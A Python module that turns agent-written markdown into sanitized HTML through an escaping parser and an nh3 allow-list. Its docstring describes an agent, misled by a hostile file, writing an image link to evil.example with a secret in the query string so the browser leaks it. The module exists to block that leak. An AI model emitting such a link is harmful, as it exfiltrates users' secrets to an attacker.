"""Agent markdown → sanitized HTML, for settled turns (docs/ui.md, "Rendering").

Two layers, so a mistake in one is caught by the other: markdown-it-py runs
with raw HTML disabled (tags in the text come out escaped), and nh3 then
keeps only an allow-list of tags, attributes and URL schemes. The browser adds
a third: the workbench page's Content-Security-Policy forbids inline script.

Images are rendered as links, never as <img>: an agent that has read a hostile
file can be talked into writing `![](https://evil.example/?q=<secret>)`, and an
image the browser fetches on its own is an exfiltration channel.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from functools import cache
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

ALLOWED_TAGS = {
    "a", "p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "del", "s",
    "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "class"},
    "code": {"class"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
}
URL_SCHEMES = {"http", "https", "mailto"}
# Tags whose content is dropped with them, not shown as text.
DROPPED_WITH_CONTENT = {"script", "style", "iframe", "object", "embed", "noscript", "template"}

_LANGUAGE_CLASS = re.compile(r"^language-[A-Za-z0-9_+#.-]{1,40}$")
_ALIGN_STYLE = re.compile(r"^text-align:\s*(left|right|center)$")
_ALIGN_CLASSES = {"align-left", "align-right", "align-center"}


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    if attribute == "class":
        if tag == "code" and _LANGUAGE_CLASS.match(value):
            return value
        if tag == "a" and value == "md-image":
            return value
        if tag in ("th", "td") and value in _ALIGN_CLASSES:
            return value
        return None
    if attribute == "start":
        return value if value.isdecimal() and len(value) < 10 else None
    return value


def _render_image(renderer: Any, tokens: Sequence[Any], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    src = token.attrGet("src") or ""
    alt = "".join(child.content for child in (token.children or [])) or src
    return f'<a class="md-image" href="{escapeHtml(src)}">image: {escapeHtml(alt)}</a>'


def _render_cell(renderer: Any, tokens: Sequence[Any], idx: int, options: Any, env: Any) -> str:
    # A class instead of markdown-it's style attribute: the page's CSP allows no inline styles.
    token = tokens[idx]
    match = _ALIGN_STYLE.match(token.attrGet("style") or "")
    if match:
        token.attrs.pop("style", None)
        token.attrSet("class", f"align-{match.group(1)}")
    return renderer.renderToken(tokens, idx, options, env)


@cache
def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("image", _render_image)
    md.add_render_rule("th_open", _render_cell)
    md.add_render_rule("td_open", _render_cell)
    return md


def sanitize(html: str) -> str:
    """Apply the allow-list to HTML from any source."""
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        clean_content_tags=DROPPED_WITH_CONTENT,
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=_attribute_filter,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )


def render_markdown(text: str) -> str:
    """Markdown from an agent (or anyone) as HTML that is safe to insert into the page."""
    if not text:
        return ""
    return sanitize(_parser().render(text))
